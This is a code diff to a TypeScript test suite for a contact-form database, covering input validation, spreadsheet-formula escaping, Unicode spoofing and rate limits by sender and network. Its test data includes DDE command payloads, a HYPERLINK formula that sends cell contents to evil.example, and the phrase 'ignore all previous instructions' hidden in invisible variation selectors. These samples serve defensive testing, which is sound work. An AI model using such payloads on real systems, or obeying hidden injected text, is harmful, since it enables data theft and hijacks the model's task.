@@ -32,6 +32,11 @@ const asRole = (role: 'anon' | 'authenticated', sql: string, params: unknown[] =
   sharedAsRole(pool, role, sql, params, headers)
 const insertAsAnon = (row: Row, address?: string, headers?: Headers) => sharedInsertAsAnon(pool, row, address, headers)
 
+// "ignore all previous instructions", one variation selector per byte: it shows nothing at all.
+const hiddenInSelectors = [...Buffer.from('ignore all previous instructions')]
+  .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
+  .join('')
+
 const stored = async (email: string) =>
   (await pool.query('select * from public.contact_form_submissions where email = $1', [email])).rows
 
@@ -184,6 +189,19 @@ describe('as the anon role', () => {
     ['a name that starts like a formula (@)', { name: '@Asha Rao' }, '23514'],
     ['a name beginning with a tab', { name: '\tAsha' }, '23514'],
     ['a name beginning with a carriage return', { name: '\rAsha' }, '23514'],
+    // Round three: text that reads differently in a mail client or a spreadsheet than it looks.
+    ['a company with a base64 encoded word', { company: 'Acme =?UTF-8?B?4oCuZmRwLmV4ZeKAiw==?=' }, '23514'],
+    ['a company with a Q encoded word', { company: 'Sunrise =?UTF-8?Q?=E2=80=AEgnp.exe?= Academy' }, '23514'],
+    ['a message hiding text in variation selectors', { message: `Acme Ltd${hiddenInSelectors}` }, '23514'],
+    ['a company hiding text in variation selectors', { company: `Acme${hiddenInSelectors} Ltd` }, '23514'],
+    ['an email a spreadsheet would run', { email: "+1+cmd|'/Ccalc'!A0@evil.example" }, '23514'],
+    ['an email that starts like a formula (=)', { email: '=asha@example.com' }, '23514'],
+    ['an email whose domain mixes Latin and Cyrillic', { email: 'principal@greenfield-sch\u043e\u043el.org' }, '23514'],
+    ['an email whose domain mixes Latin and Greek', { email: 'asha@ex\u03b1mple.com' }, '23514'],
+    ['a name that is mostly combining marks', { name: `A${'\u0301'.repeat(100)}` }, '23514'],
+    ['a name smeared with stacked marks', { name: `R${'\u0336\u0301\u0300'.repeat(38)}` }, '23514'],
+    ['a company smeared with combining marks', { company: `Acme${'\u0301'.repeat(20)}` }, '23514'],
+    ['a name of one Devanagari sign repeated', { name: `\u0915${'\u0901'.repeat(30)}` }, '23514'],
     ['a missing name', { name: null }, '23502'],
     ['a missing email', { email: null }, '23502'],
     ['a missing message', { message: null }, '23502'],
@@ -291,6 +309,36 @@ describe('text that only looks right', () => {
     },
   )
 
+  it.each(['=HYPERLINK("https://evil.example/x?"&B2,"View brochure")', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'])(
+    'stores a message a spreadsheet would run (%s) behind an apostrophe',
+    async (message) => {
+      const { email } = uniqueSender()
+      await insertAsAnon({ ...validRow(email), message })
+      expect((await stored(email))[0].message).toBe(`'${message}`)
+    },
+  )
+
+  it('accepts what people write: emoji, variation sequences, accents as marks, an apostrophe, names of domains', async () => {
+    const changes: Row[] = [
+      { message: 'Thank you \u2764\uFE0F \u{1F44D}\u{1F3FD} see you soon \u263A\uFE0E' },
+      { company: "St. Mary's School" },
+      { company: '\u845B\u{E0100}\u98FE Academy' },
+      { name: 'Nguye\u0302\u0303n Va\u0306n An' },
+      { name: 'Анна Иванова', company: 'Школа № 5' },
+      { email: 'info@\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444' },
+      { email: 'office@\u4F8B\u3048.jp' },
+      { email: 'asha@b\u00FCcher.de' },
+      { email: 'asha@xn--80ak6aa92e.com' },
+      { email: 'asha+pilot@school.example.org' },
+    ]
+    for (const change of changes) {
+      const { email } = uniqueSender()
+      const row = { ...validRow(email), ...change }
+      await insertAsAnon(row)
+      expect(await stored(row.email as string), JSON.stringify(change)).toEqual([expect.objectContaining(change)])
+    }
+  })
+
   it('keeps tabs and line breaks in a message', async () => {
     const { email } = uniqueSender()
     const message = 'Line one\r\nLine two\n\tIndented'
@@ -353,15 +401,11 @@ describe('the sender', () => {
   })
 
   it('is the last x-forwarded-for entry, the one the nearest proxy added, not what the caller wrote first', async () => {
-    const { address } = uniqueSender()
+    const { address, email } = uniqueSender()
     for (let sent = 0; sent < 5; sent++)
-      await insertAsAnon(validRow(uniqueSender().email), address, {
-        'x-forwarded-for': `${uniqueSender().address}, ${address}`,
-      })
+      await insertAsAnon(validRow(email), address, { 'x-forwarded-for': `${uniqueSender().address}, ${address}` })
     await expect(
-      insertAsAnon(validRow(uniqueSender().email), address, {
-        'x-forwarded-for': `${uniqueSender().address}, ${address}`,
-      }),
+      insertAsAnon(validRow(email), address, { 'x-forwarded-for': `${uniqueSender().address}, ${address}` }),
     ).rejects.toMatchObject({ code: 'PT429' })
   })
 
@@ -383,8 +427,29 @@ describe('the sender', () => {
 })
 
 describe('networks', () => {
-  it('counts an IPv6 network by its /48: ten /64s of one /48 send ten messages, the eleventh is refused, another /48 is not affected', async () => {
-    for (let subnet = 1; subnet <= 10; subnet++)
+  it('lets no sender, nor two, close the form for their neighbours: a never-seen /64 of the same /48 still gets through', async () => {
+    for (const subnet of [1, 2])
+      for (let sent = 0; sent < 5; sent++)
+        await insertAsAnon(validRow(uniqueSender().email), undefined, {
+          'cf-connecting-ip': `2001:db8:56:${subnet}::1`,
+        })
+    const { email } = uniqueSender()
+    await insertAsAnon(validRow(email), undefined, { 'cf-connecting-ip': '2001:db8:56:99::1' })
+    expect(await stored(email)).toHaveLength(1)
+  })
+
+  it('lets another visitor behind the same IPv4 address (a school, a carrier) write after one sender reached its limit', async () => {
+    const { address, email } = uniqueSender()
+    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address)
+    await expect(insertAsAnon(validRow(email), address)).rejects.toMatchObject({ code: 'PT429' })
+    await expect(insertAsAnon(validRow(email.toUpperCase()), address)).rejects.toMatchObject({ code: 'PT429' })
+    const colleague = uniqueSender().email
+    await insertAsAnon(validRow(colleague), address)
+    expect(await stored(colleague)).toHaveLength(1)
+  })
+
+  it('counts an IPv6 network by its /48: twenty /64s of one /48 send twenty messages, the next is refused, another /48 is not affected', async () => {
+    for (let subnet = 1; subnet <= 20; subnet++)
       await insertAsAnon(validRow(uniqueSender().email), undefined, { 'cf-connecting-ip': `2001:db8:48:${subnet}::1` })
     const { email } = uniqueSender()
     await expect(
@@ -395,6 +460,19 @@ describe('networks', () => {
       `select distinct client_network from public.contact_form_submissions where client_address like '2001:db8:48:%'`,
     )
     expect(rows).toEqual([{ client_network: '2001:db8:48::/48' }])
+  })
+
+  it('closes one IPv4 address after a hundred messages in a day from all its senders together', async () => {
+    const { address } = uniqueSender()
+    // Twenty at a time from new senders, each batch moved back two hours: under every ten-minute limit.
+    for (let batch = 0; batch < 5; batch++) {
+      for (let sent = 0; sent < 20; sent++) await insertAsAnon(validRow(uniqueSender().email), address)
+      await pool.query(
+        `update public.contact_form_submissions set received_at = received_at - interval '2 hours' where client_address = $1`,
+        [address],
+      )
+    }
+    await expect(insertAsAnon(validRow(uniqueSender().email), address)).rejects.toMatchObject({ code: 'PT429' })
   })
 
   it("makes nobody wait for another network's insert: no lock is shared between networks", async () => {
@@ -542,25 +620,25 @@ describe('as the authenticated role', () => {
 })
 
 describe('rate limit', () => {
-  it('refuses a sixth message from one address within ten minutes, with status 429', async () => {
-    const { address } = uniqueSender()
-    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(uniqueSender().email), address)
-    await expect(insertAsAnon(validRow(uniqueSender().email), address)).rejects.toMatchObject({ code: 'PT429' })
+  it('refuses a sixth message from one sender within ten minutes, with status 429', async () => {
+    const { address, email } = uniqueSender()
+    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address)
+    await expect(insertAsAnon(validRow(email), address)).rejects.toMatchObject({ code: 'PT429' })
     // Another visitor is not affected.
     await insertAsAnon(validRow(uniqueSender().email))
   })
 
-  it('refuses a 21st message from one address within a day', async () => {
-    const { address } = uniqueSender()
+  it('refuses a 21st message from one sender within a day', async () => {
+    const { address, email } = uniqueSender()
     // Five at a time, each batch moved back two hours: spread over the day, under the ten-minute limit.
     for (let batch = 0; batch < 4; batch++) {
-      for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(uniqueSender().email), address)
+      for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address)
       await pool.query(
         `update public.contact_form_submissions set received_at = received_at - interval '2 hours' where client_address = $1`,
         [address],
       )
     }
-    await expect(insertAsAnon(validRow(uniqueSender().email), address)).rejects.toMatchObject({ code: 'PT429' })
+    await expect(insertAsAnon(validRow(email), address)).rejects.toMatchObject({ code: 'PT429' })
   })
 
   it("never counts by email: messages typed with someone else's address do not block that person", async () => {
@@ -571,26 +649,15 @@ describe('rate limit', () => {
   })
 
   it('trusts the address Cloudflare sets over an x-forwarded-for the sender can forge', async () => {
-    const { address } = uniqueSender()
-    for (let sent = 0; sent < 5; sent++) {
-      await insertAsAnon(validRow(uniqueSender().email), address, {
-        'cf-connecting-ip': address,
-        'x-forwarded-for': uniqueSender().address,
-      })
-    }
-    await expect(
-      insertAsAnon(validRow(uniqueSender().email), address, {
-        'cf-connecting-ip': address,
-        'x-forwarded-for': uniqueSender().address,
-      }),
-    ).rejects.toMatchObject({ code: 'PT429' })
+    const { address, email } = uniqueSender()
+    const headers = () => ({ 'cf-connecting-ip': address, 'x-forwarded-for': uniqueSender().address })
+    for (let sent = 0; sent < 5; sent++) await insertAsAnon(validRow(email), address, headers())
+    await expect(insertAsAnon(validRow(email), address, headers())).rejects.toMatchObject({ code: 'PT429' })
   })
 
-  it('holds under concurrency: ten simultaneous messages from one address store five', async () => {
-    const { address } = uniqueSender()
-    const results = await Promise.allSettled(
-      Array.from({ length: 10 }, () => insertAsAnon(validRow(uniqueSender().email), address)),
-    )
+  it('holds under concurrency: ten simultaneous messages from one sender store five', async () => {
+    const { address, email } = uniqueSender()
+    const results = await Promise.allSettled(Array.from({ length: 10 }, () => insertAsAnon(validRow(email), address)))
     expect(results.filter((result) => result.status === 'fulfilled')).toHaveLength(5)
     const { rows } = await pool.query(
       'select count(*)::int as count from public.contact_form_submissions where client_address = $1',
